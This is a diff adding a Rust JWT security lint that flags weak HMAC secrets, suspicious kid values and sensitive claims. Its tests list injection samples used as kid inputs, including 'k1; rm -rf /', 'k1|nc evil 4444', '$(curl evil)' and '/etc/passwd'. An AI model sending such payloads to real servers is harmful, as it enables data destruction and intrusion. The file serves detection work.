@@ -1,0 +1,403 @@
+//! The security lint: what a reviewer would point out in a token, as warnings with codes.
+//! Pure functions over a parsed token; none of them prints a secret or a claim's value.
+
+use crate::claims::Warning;
+use crate::escape;
+use crate::token::{Kind, Token};
+use crate::verify::Alg;
+use serde_json::{Map, Value};
+use std::sync::OnceLock;
+
+const WEAK_SECRETS: &str = include_str!("weak_secrets.txt");
+
+/// Every lint that applies to `token`.
+pub fn lint(token: &Token) -> Vec<Warning> {
+    let mut out = Vec::new();
+    if token.kind == Kind::Jws
+        && let Some(w) = weak_secret(token)
+    {
+        out.push(w);
+    }
+    if let Some(kid) = token.header.get("kid")
+        && let Some(w) = suspicious_kid(kid)
+    {
+        out.push(w);
+    }
+    if let Some(w) = typ(&token.header, token.kind) {
+        out.push(w);
+    }
+    if let Some(claims) = token.claims() {
+        out.extend(sensitive_claims(claims));
+    }
+    out
+}
+
+/// The HMAC keys of the well-known secrets, prepared once per algorithm.
+fn prepared(alg: Alg) -> &'static [aws_lc_rs::hmac::Key] {
+    use aws_lc_rs::hmac;
+    static KEYS: [OnceLock<Vec<hmac::Key>>; 3] =
+        [OnceLock::new(), OnceLock::new(), OnceLock::new()];
+    let (slot, algorithm) = match alg {
+        Alg::HS384 => (&KEYS[1], hmac::HMAC_SHA384),
+        Alg::HS512 => (&KEYS[2], hmac::HMAC_SHA512),
+        _ => (&KEYS[0], hmac::HMAC_SHA256),
+    };
+    slot.get_or_init(|| {
+        WEAK_SECRETS
+            .lines()
+            .filter(|l| !l.is_empty() && !l.starts_with("# "))
+            .map(|s| hmac::Key::new(algorithm, s.as_bytes()))
+            .collect()
+    })
+}
+
+/// `weak_secret`: an HS token whose signature one of the well-known secrets reproduces.
+fn weak_secret(token: &Token) -> Option<Warning> {
+    let alg = token
+        .alg()
+        .and_then(Alg::from_name)
+        .filter(|a| a.is_hmac())?;
+    if token.signature.is_empty() {
+        return None;
+    }
+    let input = token.signing_input();
+    // The secret itself is never named: output stays free of anything secret-shaped.
+    prepared(alg)
+        .iter()
+        .find(|key| aws_lc_rs::hmac::verify(key, input, &token.signature).is_ok())?;
+    Some(Warning::new(
+        "weak_secret",
+        format!(
+            "the {} signature is made with a well-known secret from jwtctl's list of defaults and common \
+             passwords: anyone can forge tokens. Rotate to a random secret of at least {} bytes.",
+            alg.name(),
+            alg.min_secret()
+        ),
+    ))
+}
+
+/// `suspicious_kid`: a kid that looks like path traversal, SQL or shell injection.
+fn suspicious_kid(kid: &Value) -> Option<Warning> {
+    let Value::String(kid) = kid else {
+        return Some(Warning::new(
+            "suspicious_kid",
+            "kid is not a string: a server that passes it to a lookup unchecked may misbehave. kid must be a string.",
+        ));
+    };
+    let lower = kid.to_ascii_lowercase();
+    let why = if kid.contains("..")
+        || kid.starts_with('/')
+        || kid.starts_with('\\')
+        || lower.contains("/etc/")
+        || lower.contains("/dev/")
+    {
+        "path traversal"
+    } else if lower.contains("union") && lower.contains("select")
+        || lower.contains("' or")
+        || lower.contains("'or")
+        || lower.contains("--")
+        || lower.contains(";")
+        || kid.contains('\'')
+        || kid.contains('"')
+    {
+        "SQL injection"
+    } else if kid
+        .chars()
+        .any(|c| matches!(c, '|' | '&' | '`' | '$' | '<' | '>'))
+    {
+        "shell injection"
+    } else if kid.chars().any(escape::is_unsafe) || kid.len() > 256 {
+        "control characters or an absurd length"
+    } else {
+        return None;
+    };
+    Some(Warning::new(
+        "suspicious_kid",
+        format!(
+            "kid \"{}\" looks like {why}: a server that puts kid into a file path, SQL query or command is \
+             exploitable. Treat kid as an opaque key into a fixed key set.",
+            escape::text(&kid.chars().take(80).collect::<String>())
+        ),
+    ))
+}
+
+/// `no_typ` / `unusual_typ`: RFC 8725 §3.11 asks for explicit typing to keep token kinds apart.
+fn typ(header: &Map<String, Value>, kind: Kind) -> Option<Warning> {
+    if kind == Kind::Jwe {
+        return None;
+    }
+    match header.get("typ") {
+        None => Some(Warning::new(
+            "no_typ",
+            "the header has no typ: nothing tells this token from another kind signed with the same key \
+             (RFC 8725 §3.11). Issuers should set typ, e.g. JWT or at+jwt.",
+        )),
+        Some(Value::String(t)) => {
+            let l = t.to_ascii_lowercase();
+            let known = l == "jwt"
+                || l == "jose"
+                || l == "application/jwt"
+                || l.ends_with("+jwt")
+                || l == "jose+json";
+            (!known).then(|| {
+                Warning::new(
+                    "unusual_typ",
+                    format!(
+                        "typ \"{}\" is not a JWT media type: a verifier that checks typ will refuse the token.",
+                        escape::text(t)
+                    ),
+                )
+            })
+        }
+        Some(_) => Some(Warning::new("unusual_typ", "typ is not a string.")),
+    }
+}
+
+const SENSITIVE_NAMES: [&str; 14] = [
+    "password",
+    "passwd",
+    "pwd",
+    "secret",
+    "client_secret",
+    "api_key",
+    "apikey",
+    "private_key",
+    "ssn",
+    "credit_card",
+    "card_number",
+    "cardnumber",
+    "cvv",
+    "pin",
+];
+
+/// `sensitive_claim`: claim names and values that look like secrets or card numbers.
+fn sensitive_claims(claims: &Map<String, Value>) -> Vec<Warning> {
+    let mut found = Vec::new();
+    walk(claims, "", 0, &mut found);
+    found
+        .into_iter()
+        .take(5)
+        .map(|(path, what)| {
+            Warning::new(
+                "sensitive_claim",
+                format!(
+                    "claim \"{}\" {what}: a JWT payload is only base64-encoded, so anyone holding the token can read it. \
+                     Keep secrets and personal data out of tokens.",
+                    escape::text(&path)
+                ),
+            )
+        })
+        .collect()
+}
+
+fn walk(
+    map: &Map<String, Value>,
+    prefix: &str,
+    depth: usize,
+    found: &mut Vec<(String, &'static str)>,
+) {
+    if depth > 8 || found.len() >= 5 {
+        return;
+    }
+    for (name, value) in map {
+        let path = if prefix.is_empty() {
+            name.clone()
+        } else {
+            format!("{prefix}.{name}")
+        };
+        let lower = name.to_ascii_lowercase();
+        if SENSITIVE_NAMES.iter().any(|s| {
+            lower == *s || lower.ends_with(&format!("_{s}")) || lower.ends_with(&format!("-{s}"))
+        }) {
+            found.push((path.clone(), "is named like a secret or personal data"));
+        } else if let Value::String(s) = value {
+            if looks_like_card(s) {
+                found.push((path.clone(), "holds what looks like a payment card number"));
+            } else if looks_like_ssn(s) {
+                found.push((
+                    path.clone(),
+                    "holds what looks like a US social security number",
+                ));
+            }
+        }
+        if let Value::Object(inner) = value {
+            walk(inner, &path, depth + 1, found);
+        }
+    }
+}
+
+/// 13–19 digits (spaces and dashes allowed) passing the Luhn check.
+fn looks_like_card(s: &str) -> bool {
+    if s.len() > 40
+        || !s
+            .chars()
+            .all(|c| c.is_ascii_digit() || c == ' ' || c == '-')
+    {
+        return false;
+    }
+    let digits: Vec<u32> = s.chars().filter_map(|c| c.to_digit(10)).collect();
+    if !(13..=19).contains(&digits.len()) || digits.iter().all(|&d| d == digits[0]) {
+        return false;
+    }
+    let sum: u32 = digits
+        .iter()
+        .rev()
+        .enumerate()
+        .map(|(i, &d)| {
+            if i % 2 == 1 {
+                if d * 2 > 9 { d * 2 - 9 } else { d * 2 }
+            } else {
+                d
+            }
+        })
+        .sum();
+    sum.is_multiple_of(10)
+}
+
+fn looks_like_ssn(s: &str) -> bool {
+    let b = s.as_bytes();
+    b.len() == 11
+        && b[3] == b'-'
+        && b[6] == b'-'
+        && b.iter()
+            .enumerate()
+            .all(|(i, c)| i == 3 || i == 6 || c.is_ascii_digit())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::Engine as _;
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+
+    fn signed(secret: &[u8], header: &str, payload: &str) -> Token {
+        let input = format!(
+            "{}.{}",
+            URL_SAFE_NO_PAD.encode(header),
+            URL_SAFE_NO_PAD.encode(payload)
+        );
+        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
+        let sig = aws_lc_rs::hmac::sign(&key, input.as_bytes());
+        crate::token::parse(&format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig.as_ref()))).unwrap()
+    }
+
+    fn codes(t: &Token) -> Vec<&'static str> {
+        lint(t).iter().map(|w| w.code).collect()
+    }
+
+    #[test]
+    fn well_known_secrets_are_found_and_never_printed() {
+        for secret in ["secret", "your-256-bit-secret", "password", "keyboard cat"] {
+            let t = signed(secret.as_bytes(), r#"{"alg":"HS256","typ":"JWT"}"#, "{}");
+            let w = lint(&t);
+            assert_eq!(
+                w.iter().map(|w| w.code).collect::<Vec<_>>(),
+                ["weak_secret"],
+                "{secret}"
+            );
+            if secret.len() > 8 {
+                assert!(
+                    !w[0].message.contains(secret),
+                    "the secret must not be printed"
+                );
+            }
+        }
+        let strong = signed(
+            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
+            r#"{"alg":"HS256","typ":"JWT"}"#,
+            "{}",
+        );
+        assert!(codes(&strong).is_empty());
+    }
+
+    #[test]
+    fn the_list_checks_in_milliseconds() {
+        let t = signed(
+            b"not-on-the-list-0123456789-abcdef",
+            r#"{"alg":"HS256","typ":"JWT"}"#,
+            "{}",
+        );
+        lint(&t); // prepares the keys once
+        let start = std::time::Instant::now();
+        for _ in 0..10 {
+            lint(&t);
+        }
+        assert!(prepared(Alg::HS256).len() > 2000);
+        // Loose bound (a debug build on a busy machine): the point is milliseconds, not seconds.
+        assert!(start.elapsed().as_millis() < 2000, "{:?}", start.elapsed());
+    }
+
+    #[test]
+    fn kids() {
+        for (kid, why) in [
+            ("../../../../dev/null", "path traversal"),
+            ("/etc/passwd", "path traversal"),
+            ("x' UNION SELECT 'key", "SQL injection"),
+            ("k1; rm -rf /", "SQL injection"),
+            ("k1|nc evil 4444", "shell injection"),
+            ("$(curl evil)", "shell injection"),
+        ] {
+            let w = suspicious_kid(&Value::from(kid)).unwrap();
+            assert!(w.message.contains(why), "{kid}: {}", w.message);
+        }
+        for fine in [
+            "2024-01-rsa",
+            "k1",
+            "a1b2c3d4e5f6",
+            "https:__keys.example_1",
+        ] {
+            assert!(suspicious_kid(&Value::from(fine)).is_none(), "{fine}");
+        }
+        assert!(suspicious_kid(&Value::from(5)).is_some());
+    }
+
+    #[test]
+    fn sensitive_claims_name_the_claim_not_the_value() {
+        let t = signed(
+            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
+            r#"{"alg":"HS256","typ":"JWT"}"#,
+            r#"{"sub":"u","password":"hunter2","profile":{"card":"4111 1111 1111 1111","ssn":"x"},"n":"078-05-1120","id":"1234567890123"}"#,
+        );
+        let w = lint(&t);
+        let paths: Vec<_> = w
+            .iter()
+            .map(|w| w.message.split('"').nth(1).unwrap().to_string())
+            .collect();
+        assert_eq!(paths, ["password", "profile.card", "profile.ssn", "n"]);
+        assert!(
+            w.iter()
+                .all(|w| !w.message.contains("hunter2") && !w.message.contains("4111"))
+        );
+    }
+
+    #[test]
+    fn typ() {
+        let none = signed(
+            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
+            r#"{"alg":"HS256"}"#,
+            "{}",
+        );
+        assert_eq!(codes(&none), ["no_typ"]);
+        let odd = signed(
+            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
+            r#"{"alg":"HS256","typ":"text/html"}"#,
+            "{}",
+        );
+        assert_eq!(codes(&odd), ["unusual_typ"]);
+        let at = signed(
+            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
+            r#"{"alg":"HS256","typ":"at+jwt"}"#,
+            "{}",
+        );
+        assert!(codes(&at).is_empty());
+    }
+
+    #[test]
+    fn luhn() {
+        assert!(looks_like_card("4111111111111111"));
+        assert!(looks_like_card("5500-0000-0000-0004"));
+        assert!(!looks_like_card("4111111111111112"));
+        assert!(!looks_like_card("1800000000"));
+        assert!(!looks_like_card("0000000000000000"));
+    }
+}
